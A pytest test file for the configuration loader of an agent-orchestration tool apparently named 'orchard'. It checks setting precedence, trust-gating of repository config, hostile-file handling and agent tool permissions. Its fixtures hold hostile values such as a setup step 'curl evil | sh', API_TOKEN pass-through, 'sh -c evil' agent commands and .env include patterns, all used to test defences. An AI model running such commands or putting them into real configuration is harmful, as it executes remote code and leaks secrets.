"""Which settings hold: flags over environment over repository over user over defaults."""

import json
import os
from collections.abc import Mapping
from pathlib import Path

import pytest

from orchard.config.keys import KEYS, NAMES_AGENT
from orchard.config.layers import Config, flatten, tools_of
from orchard.config.load import FILE_BYTES, LINE_DOTS, Settings, load_settings
from orchard.config.trust import trust
from orchard.config.user_dirs import UserDirs
from orchard.errors import InvalidInput
from orchard.model.permissions import made

DANGEROUS = """
max_parallel = 9
setup = ["curl evil | sh"]
pass_env = ["API_TOKEN"]
[worktree]
link = ["node_modules"]
"""


class Place:
    """A repository's top and a user's folders."""

    def __init__(self, root: Path) -> None:
        self.top = root / "repo"
        self.dirs = UserDirs(root / "state", root / "config", root / "run")
        self.top.mkdir()
        self.dirs.config.mkdir()

    def repository(self, text: str | bytes) -> None:
        (self.top / "orchard.toml").write_bytes(text if isinstance(text, bytes) else text.encode())

    def user(self, text: str) -> None:
        (self.dirs.config / "config.toml").write_text(text)

    def load(self, flags: dict[str, object] | None = None, env: dict[str, str] | None = None) -> Settings:
        return load_settings(self.top, flags or {}, env or {}, self.dirs)

    def problems(self) -> list[str]:
        with pytest.raises(InvalidInput) as caught:
            self.load()
        return [str(problem) for problem in caught.value.problems]


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def test_without_any_file_the_defaults_hold_and_nothing_is_made(place: Place, tmp_path: Path) -> None:
    before = sorted(tmp_path.rglob("*"))

    settings = place.load()

    assert settings.config == Config()
    assert sorted(tmp_path.rglob("*")) == before


def test_flags_beat_the_environment_beats_the_repository_beats_the_user(place: Place) -> None:
    place.user("max_parallel = 1\nresolver = 'ours'\n[heal]\nattempts = 1\n[limits]\ngrace = 5\nidle = 1\n")
    place.repository("max_parallel = 2\nresolver = 'theirs'\n[heal]\nattempts = 2\n[limits]\ngrace = 2\n")
    env = {"ORCHARD_MAX_PARALLEL": "3", "ORCHARD_RESOLVER": "fail", "ORCHARD_HEAL_ATTEMPTS": "3"}

    settings = place.load({"max_parallel": 4, "resolver": None}, env)

    assert (settings.config.max_parallel, settings.origins["max_parallel"]) == (4, "--max-parallel")
    assert (settings.config.resolver, settings.origins["resolver"]) == ("fail", "ORCHARD_RESOLVER")
    assert (settings.config.heal.attempts, settings.origins["heal.attempts"]) == (3, "ORCHARD_HEAL_ATTEMPTS")
    assert (settings.config.limits.grace, settings.origins["limits.grace"]) == (2.0, "orchard.toml")
    assert settings.config.limits.idle == 1.0
    assert settings.origins["limits.idle"] == str(place.dirs.config / "config.toml")
    assert settings.origins["setup"] == "default"


def test_outside_a_repository_only_the_user_counts(place: Place) -> None:
    place.user("max_parallel = 1")

    assert load_settings(None, {}, {}, place.dirs).config.max_parallel == 1


def test_warnings_about_variables_are_handed_on(place: Place) -> None:
    assert "ORCHARD_MAX_PARALELL" in place.load(env={"ORCHARD_MAX_PARALELL": "1"}).warnings[0]


# ------------------------------------------------------------------------------------------ trust


def test_dangerous_keys_of_a_repository_have_no_effect_before_trust(place: Place) -> None:
    place.user("setup = ['make deps']")
    place.repository(DANGEROUS)

    settings = place.load()

    assert settings.config.setup == ("make deps",)
    assert settings.config.pass_env == ()
    assert settings.config.worktree.link == ()
    assert settings.config.max_parallel == 9
    assert settings.untrusted == {
        "setup": ["curl evil | sh"],
        "pass_env": ["API_TOKEN"],
        "worktree.link": ["node_modules"],
    }


def test_dangerous_keys_count_once_their_content_is_trusted(place: Place) -> None:
    place.repository(DANGEROUS)
    asked = place.load()
    assert asked.untrusted_digest is not None
    trust(place.top, asked.untrusted_digest, place.dirs.state)

    settings = place.load()

    assert settings.config.setup == ("curl evil | sh",)
    assert settings.config.pass_env == ("API_TOKEN",)
    assert settings.config.worktree.link == ("node_modules",)
    assert (settings.untrusted, settings.untrusted_digest) == ({}, None)


@pytest.mark.parametrize(
    "changed",
    [
        DANGEROUS.replace("evil", "worse"),
        DANGEROUS.replace('"API_TOKEN"', '"API_TOKEN", "MORE"'),
        DANGEROUS.replace('link = ["node_modules"]', ""),
    ],
)
def test_changed_content_is_asked_about_again(place: Place, changed: str) -> None:
    place.repository(DANGEROUS)
    trust(place.top, str(place.load().untrusted_digest), place.dirs.state)
    place.repository(changed)

    settings = place.load()

    assert settings.config.setup == ()
    assert "setup" in settings.untrusted


def test_a_change_of_harmless_keys_keeps_the_trust(place: Place) -> None:
    place.repository(DANGEROUS)
    trust(place.top, str(place.load().untrusted_digest), place.dirs.state)
    place.repository(DANGEROUS.replace("max_parallel = 9", "# a comment\nmax_parallel = 2"))

    settings = place.load()

    assert settings.config.max_parallel == 2
    assert settings.config.setup == ("curl evil | sh",)


def test_the_users_own_file_needs_no_trust(place: Place) -> None:
    place.user(DANGEROUS)

    settings = place.load()

    assert settings.config.setup == ("curl evil | sh",)
    assert not settings.untrusted


def test_an_empty_list_needs_no_trust(place: Place) -> None:
    place.user("setup = ['make deps']")
    place.repository("setup = []")

    settings = place.load()

    assert settings.config.setup == ()
    assert not settings.untrusted


def test_untrusted_keys_are_checked_all_the_same(place: Place) -> None:
    place.repository("setup = 3")

    assert place.problems() == ["orchard.toml:1 setup: must be a list of works, not a whole number"]


def test_a_repositorys_file_cannot_put_worktrees_outside(place: Place) -> None:
    place.repository("worktree_root = '/home'")

    assert "must be a path inside the repository" in place.problems()[0]


LOOSER = [
    ("limits.log_bytes", 10**15), ("limits.wall", 0), ("limits.wall", 7200), ("limits.idle", 0),
    ("limits.interactive", 0), ("limits.ask", 0), ("limits.grace", 3600), ("capacity.global", 0),
    ("capacity.global", 100),
    ("heal.enabled", True), ("heal.attempts", 100), ("limits.subtasks_per_job", 1000),
    ("limits.subtasks_per_plan", 10_000), ("worktree.pool", 64), ("worktree.keep_size", 2**40),
    ("agent_tools", True), ("resolver", "theirs"),
    ("resolver", "ours"), ("resolver", "agent"), ("push", True),
    ("worktree.submodules", True),
    ("health.idle", 10.0), ("health.slow", 10.0), ("health.stuck", 10.0), ("health.looping", 2), ("health.failing", 1),
    ("health.on_idle", "ask"), ("health.on_slow", "interrupt"), ("health.on_stuck", "fail"),
    ("health.on_looping", "fail"), ("health.on_failing", "interrupt"),
    ("sandbox.level", "off"), ("sandbox.level", "landlock"), ("sandbox.network", "on"), ("sandbox.memory", 0),
    ("sandbox.processes", 0), ("sandbox.files", 100_000), ("sandbox.disk", 2**40),
    ("notify.bell", True), ("notify.desktop", True),
]  # fmt: skip
OWN = {
    "limits.log_bytes": 2**20, "limits.wall": 3600, "limits.idle": 600, "limits.interactive": 60, "limits.grace": 5,
    "limits.ask": 60,
    "capacity.global": 2, "heal.enabled": False, "heal.attempts": 1, "limits.subtasks_per_job": 2,
    "limits.subtasks_per_plan": 3, "worktree.pool": 1, "worktree.keep_size": 2**30,
    "agent_tools": False, "resolver": "fail",
    "push": False, "worktree.submodules": False,
    "health.idle": 60.0, "health.slow": 600.0, "health.stuck": 600.0, "health.looping": 6, "health.failing": 20,
    "health.on_idle": "tell", "health.on_slow": "tell", "health.on_stuck": "tell", "health.on_looping": "tell",
    "health.on_failing": "tell",
    "sandbox.level": "bwrap", "sandbox.network": "off", "sandbox.memory": 2**30, "sandbox.processes": 100,
    "sandbox.files": 256, "sandbox.disk": 2**30,
    "notify.bell": False, "notify.desktop": False,
}  # fmt: skip


def toml(values: Mapping[str, object]) -> str:
    return "\n".join(f"{name} = {json.dumps(value)}" for name, value in values.items())


@pytest.mark.parametrize(("name", "value"), LOOSER, ids=str)
def test_a_repositorys_file_loosens_nothing_before_trust(place: Place, name: str, value: object) -> None:
    place.user(toml(OWN))
    place.repository(toml({name: value}))

    asked = place.load()
    assert flatten(asked.config)[name] == OWN[name]
    assert asked.untrusted == {name: value}

    trust(place.top, str(asked.untrusted_digest), place.dirs.state)
    agreed = place.load()
    assert flatten(agreed.config)[name] == (value or (None if name.startswith(("limits", "sandbox")) else value))
    assert not agreed.untrusted


def test_a_repositorys_file_may_be_stricter_than_the_user(place: Place) -> None:
    place.repository(toml(OWN))

    settings = place.load()

    assert {name: flatten(settings.config)[name] for name in OWN} == OWN
    assert not settings.untrusted


def test_every_setting_has_a_rule_for_the_files_of_strangers() -> None:
    ruled = {key.name for key in KEYS.values() if key.needs_trust or key.loosens or key.stays_inside}

    # Which agent works, and how many at once below the user's limit, is a wish; what jobs leave for others is told.
    assert KEYS.keys() - ruled == {"max_parallel", *NAMES_AGENT, "worktree.keep"}
    assert {key.name for key in KEYS.values() if key.loosens} == OWN.keys() == {name for name, _ in LOOSER}


def test_what_a_strangers_row_takes_over_from_the_users_own_is_part_of_what_is_agreed_to(place: Place) -> None:
    place.user("[mcp_servers.x]\nurl = 'https://mine.example'")
    place.repository("[mcp_servers.x]\nurl = 'https://theirs.example'")
    trust(place.top, str(place.load().untrusted_digest), place.dirs.state)
    assert place.load().config.mcp_servers["x"].url == "https://theirs.example"

    place.user("[mcp_servers.x]\nurl = 'https://mine.example'\nheaders = {Authorization = 'key'}")
    asked = place.load()
    assert asked.config.mcp_servers["x"].url == "https://mine.example", "nobody agreed that the key goes there"
    assert asked.untrusted["mcp_servers.x, which takes over from your own row"] == ["headers"]

    trust(place.top, str(asked.untrusted_digest), place.dirs.state)
    agreed = place.load().config.mcp_servers["x"]
    assert (agreed.url, agreed.headers) == ("https://theirs.example", {"Authorization": "key"})


def test_what_a_repositorys_file_keeps_for_the_next_job_is_told(place: Place) -> None:
    place.repository("[worktree]\nkeep = ['node_modules/']")

    settings = place.load()

    assert settings.config.worktree.keep == ("node_modules/",)
    assert [warning for warning in settings.warnings if "node_modules/" in warning]


@pytest.mark.parametrize("file", ["orchard.toml", ".worktreeinclude"])
def test_files_of_the_users_that_git_ignores_come_in_front_of_jobs_only_after_trust(place: Place, file: str) -> None:
    """A stranger's repository could name keys that lie in the checkout, and have its jobs read them."""
    place.user("worktree.include = ['mine']")
    text = "worktree.include = ['.env']" if file == "orchard.toml" else "# keys\n.env\n\n"
    (place.top / file).write_text(text)

    asked = place.load()
    assert asked.config.worktree.include == ("mine",)
    assert asked.untrusted == {file if file != "orchard.toml" else "worktree.include": [".env"]}

    trust(place.top, str(asked.untrusted_digest), place.dirs.state)
    agreed = place.load()
    assert not agreed.untrusted and ".env" in agreed.config.worktree.include
    assert agreed.changed_since(asked) == [file]

    (place.top / file).write_text(text.replace(".env", ".env*"))
    assert place.load().config.worktree.include == ("mine",), "nobody agreed to this one"


def test_the_lines_of_a_worktreeinclude_stand_before_the_users_own_and_say_where_they_are_from(place: Place) -> None:
    place.user("worktree.include = ['!.env.local']")
    (place.top / ".worktreeinclude").write_text(".env*\r\n#x\n")
    trust(place.top, str(place.load().untrusted_digest), place.dirs.state)

    settings = place.load()

    assert settings.config.worktree.include == (".env*", "!.env.local")
    assert settings.origins["worktree.include"].startswith(".worktreeinclude and ")


@pytest.mark.parametrize("content", [b"\xff\xfe", b"#" * (FILE_BYTES + 1)])
def test_a_worktreeinclude_that_is_no_list_of_patterns_is_a_problem(place: Place, content: bytes) -> None:
    (place.top / ".worktreeinclude").write_bytes(content)

    assert place.problems()[0].startswith(".worktreeinclude")


def test_a_worktreeinclude_that_is_a_link_is_none(place: Place, tmp_path: Path) -> None:
    (tmp_path / "patterns").write_text(".env\n")
    (place.top / ".worktreeinclude").symlink_to(tmp_path / "patterns")

    assert not place.load().untrusted


# ---------------------------------------------------------------------------------- hostile files


def test_problems_of_both_files_come_at_once(place: Place) -> None:
    place.user("nope = 1")
    place.repository("x = = 1")

    found = place.problems()

    assert found[0].startswith("orchard.toml:1: is not valid TOML: ")
    assert found[1].endswith("config.toml:1 nope: unknown key")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\xff\xfe", "is not UTF-8 text"),
        (b"#" * (FILE_BYTES + 1), "is longer than 64 KiB"),
        (b"a." * (LINE_DOTS + 1) + b"a = 1", f"has a line with more than {LINE_DOTS} dots"),
        ("a.'\u2028'.".encode() * LINE_DOTS + b"a = 1", f"has a line with more than {LINE_DOTS} dots"),
        (b"a = " + b"[" * 20_000, "is nested too deep"),
        (b"max_parallel = " + b"9" * 6000, "is not valid TOML"),
        (b"a = 1\na = = 2\n", "orchard.toml:2: is not valid TOML"),
    ],
    ids=["encoding", "long", "dots", "odd-line-ends", "deep", "huge-number", "syntax"],
)
def test_a_hostile_file_is_a_problem_and_takes_no_time(place: Place, content: bytes, message: str) -> None:
    place.repository(content)

    (problem,) = place.problems()

    assert message in problem


def test_a_file_as_bad_as_it_may_be_is_read_in_bounded_time(place: Place) -> None:
    header = "[" + "a." * (LINE_DOTS - 1) + "a]\n"
    row = "b" * 4 + ".b" * (LINE_DOTS - 1)
    rows = "".join(f"k{number}{row} = 1\n" for number in range((FILE_BYTES - len(header)) // (len(row) + 10)))
    place.repository(header + rows)

    (problem,) = place.problems()

    assert problem == "orchard.toml a: unknown key"


def test_a_pipe_in_place_of_the_file_does_not_hang(place: Place) -> None:
    os.mkfifo(place.top / "orchard.toml")

    assert place.problems() == ["orchard.toml: is not a file"]


def test_a_folder_or_device_in_place_of_the_file_is_a_problem(place: Place) -> None:
    (place.top / "orchard.toml").symlink_to("/dev/zero")

    assert place.problems() == ["orchard.toml: is not a file"]


@pytest.mark.skipif(os.getuid() == 0, reason="root can read everything")
def test_a_file_that_cannot_be_read_is_a_problem(place: Place) -> None:
    place.repository("")
    (place.top / "orchard.toml").chmod(0)

    assert place.problems() == ["orchard.toml: cannot be read: Permission denied"]


# ------------------------------------------------------------------------------------------ agents

AGENTS = """
agent = "mine"
[agents.mine]
command = "evil {prompt}"
[agents.claude]
args = ["--evil"]
[mcp_servers.files]
command = "evil"
"""


def test_agents_and_servers_of_a_repository_count_only_after_trust(place: Place) -> None:
    place.user('[agents.claude]\nmodel = "opus"\n')
    place.repository(AGENTS)

    before = place.load()
    trust(place.top, str(before.untrusted_digest), place.dirs.state)
    after = place.load()

    taken_over = "agents.claude, which takes over from your own row"
    assert set(before.untrusted) == {"agents", "mcp_servers", taken_over}
    assert set(before.config.agents) == {"claude"} and before.config.agents["claude"].args == ()
    assert before.config.mcp_servers == {}
    assert before.config.agent == "mine"
    assert after.config.agents["mine"].command == "evil {prompt}"
    assert (after.config.agents["claude"].args, after.config.agents["claude"].model) == (("--evil",), "opus")
    assert set(after.config.mcp_servers) == {"files"}


@pytest.mark.parametrize(("old", "new"), [("evil {prompt}", "worse {prompt}"), ('command = "evil"', 'command = "x"')])
def test_a_changed_row_is_asked_about_again(place: Place, old: str, new: str) -> None:
    place.repository(AGENTS)
    trust(place.top, str(place.load().untrusted_digest), place.dirs.state)
    place.repository(AGENTS.replace(old, new))

    settings = place.load()

    assert (settings.config.agents, settings.config.mcp_servers) == ({}, {})
    assert set(settings.untrusted) == {"agents", "mcp_servers"}


def test_the_name_of_an_agent_needs_no_trust_but_a_command_does(place: Place) -> None:
    place.user('agent = "claude"')
    place.repository('agent = "codex"')
    named = place.load()
    evil = "acp:sh -c evil"
    place.repository(f'agent = "{evil}"\nresolver_agent = "{evil}"\n[heal]\nagent = "{evil}"\n')
    commanded = place.load()

    assert (named.config.agent, named.untrusted) == ("codex", {})
    assert commanded.untrusted == {"agent": evil, "resolver_agent": evil, "heal.agent": evil}
    config = commanded.config
    assert (config.agent, config.resolver_agent, config.heal.agent) == ("claude", None, None)


def test_a_problem_in_a_row_that_is_not_trusted_is_told_all_the_same(place: Place) -> None:
    place.repository("[agents.claude]\nmodle = 'x'\n")

    assert place.problems() == ["orchard.toml:2 agents.claude.modle: unknown key; did you mean 'model'?"]


# ------------------------------------------------------------------------------------------ tools


def test_a_repository_can_take_tools_from_an_agent_without_anybody_s_consent(place: Place) -> None:
    place.user('[agents.claude]\ntools = "edit"')
    place.repository('[agents.claude]\ntools = "read-only"\n[agents.builtin]\ndeny_tools = ["bash"]')

    settings = place.load()

    assert settings.untrusted == {}
    assert tools_of(settings.config, "claude") == made("read-only")
    assert not tools_of(settings.config, "builtin").permits("bash")
    assert settings.origins["agents.claude.tools"].endswith("narrowed by orchard.toml")


@pytest.mark.parametrize("agreed", [False, True])
def test_a_repository_can_never_give_an_agent_more_than_the_user_does(place: Place, agreed: bool) -> None:
    place.user('[agents.builtin]\ntools = "read-only"\ndeny_tools = ["git_log"]\nask_tools = ["git_diff"]')
    place.repository('[agents.builtin]\ntools = "all"\ndeny_tools = []\nask_tools = []\nmodel = "m"')
    if agreed:
        trust(place.top, str(place.load().untrusted_digest), place.dirs.state)

    settings = place.load()

    found = tools_of(settings.config, "builtin")
    assert found == made("read-only", ["git_log"], ["git_diff"])
    assert settings.config.builtin.model == ("m" if agreed else None)
    assert flatten(settings.config, settings.origins)["agents.builtin.tools"] == "read-only"


def test_tools_of_an_agent_that_nobody_knows_are_a_problem(place: Place) -> None:
    place.repository('[agents.clade]\ntools = "edit"')

    with pytest.raises(InvalidInput, match=r"agents\.clade: there is no agent of this name; did you mean 'claude'"):
        place.load()
